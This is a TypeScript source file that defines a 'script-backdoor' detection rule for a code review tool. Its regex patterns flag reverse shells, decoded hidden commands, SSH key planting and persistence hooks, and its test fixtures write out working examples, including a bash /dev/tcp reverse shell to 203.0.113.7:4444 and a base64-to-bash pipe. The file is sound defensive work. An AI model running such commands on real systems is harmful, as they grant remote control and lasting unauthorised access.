import type { RiskLevel } from '../../../../core/review/risk.ts';
import type { Hit, Rule, SourceFile } from '../../../rule.ts';
import { findPlaces, toTextHit } from '../text-hit.ts';
import { holdsCommands, isInComment } from './command-text.ts';

const FORMS: readonly { readonly pattern: RegExp; readonly severity: RiskLevel; readonly message: string }[] = [
  { pattern: /\/dev\/(?:tcp|udp)\/[\w.$-]{1,100}\/[\w$]{1,20}[^\n]{0,60}/g, severity: 'high', message: 'The shell opens a connection by itself, as a reverse shell does.' },
  { pattern: /\b(?:nc|ncat|netcat)\b[^\n|;]{0,100}\s(?:-e|-c|--exec)\s{1,5}\S{0,20}sh\b|\bmkfifo\b[^\n]{0,200}\|\s{0,5}(?:nc|ncat)\b|\bsocat\b[^\n]{0,200}\bexec:/gi, severity: 'high', message: 'A shell is tied to a connection: whoever is at its end commands it.' },
  { pattern: /\bbase64\s{1,5}(?:-d|-D|--decode)\b[^\n|;]{0,200}\|\s{0,5}(?:sudo\s{1,5})?(?:ba|z|da)?(?:sh|python3?|node|perl)\b|\b(?:xxd|openssl\s{1,5}enc)\b[^\n|;]{0,200}\|\s{0,5}(?:ba|z|da)?sh\b|\beval\s{1,5}["']?(?:\$\(|`)[^\n]{0,200}\bbase64\b/gi, severity: 'high', message: 'A command is decoded and run: its text is hidden.' },
  { pattern: /\b(?:powershell|pwsh)\b[^\n]{0,100}\s-(?:e|enc|encodedcommand)\s{1,5}[A-Za-z0-9+/=]{40}/gi, severity: 'high', message: 'An encoded command is run: its text is hidden.' },
  { pattern: />>?\s{0,5}["']?[^\n"']{0,60}authorized_keys\b/g, severity: 'high', message: 'A key is added with which somebody can log in.' },
  { pattern: /\|\s{0,5}crontab\s{1,5}-|>>?\s{0,5}["']?(?:\/etc\/(?:cron|profile\.d|rc\.local|ld\.so\.preload)|[^\n"' ]{0,60}LaunchAgents)|\bsystemctl\s{1,5}(?:--user\s{1,5})?enable\b|\bschtasks\b[^\n]{0,100}\/create/gi, severity: 'medium', message: 'A program is made to start by itself from now on.' },
  { pattern: />>\s{0,5}["']?(?:~|\$HOME|\$\{HOME\})\/\.(?:bashrc|zshrc|profile|bash_profile|zprofile)\b/g, severity: 'low', message: 'The start of every shell is changed.' },
];

function* check(file: SourceFile): Iterable<Hit> {
  if (!holdsCommands(file)) return;
  for (const { pattern, severity, message } of FORMS) {
    for (const place of findPlaces(file.text, pattern, 100)) {
      if (!isInComment(file.text, place.index)) yield toTextHit(file, place, { message, severity });
    }
  }
}

export const shellBackdoor: Rule = {
  id: 'script-backdoor',
  title: 'A script that opens a way in, hides a command or stays',
  severity: 'high',
  why: 'Neither installing nor starting a server needs a remote shell, hidden commands, or to run on after it is removed.',
  mend: 'Remove the command. If it is needed, let people run it themselves, and say why.',
  matches: [
    { path: 'a.sh', text: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', severity: 'high' },
    { path: 'a.sh', text: 'echo ZWNobyBoaQ== | base64 -d | bash', severity: 'high' },
    { path: 'a.sh', text: 'echo "ssh-ed25519 AAAA" >> ~/.ssh/authorized_keys', severity: 'high' },
    { path: 'a.sh', text: '(crontab -l; echo "* * * * * /tmp/a") | crontab -', severity: 'medium' },
    { path: 'a.sh', text: 'echo "export A=1" >> ~/.bashrc', severity: 'low' },
  ],
  ignores: [
    { path: 'a.sh', text: 'echo "$KEY" | base64 -d > key.json\ncrontab -l\nsystemctl status a' },
    { path: 'README.md', text: 'echo "export A=1" >> ~/.bashrc' },
  ],
  check,
};
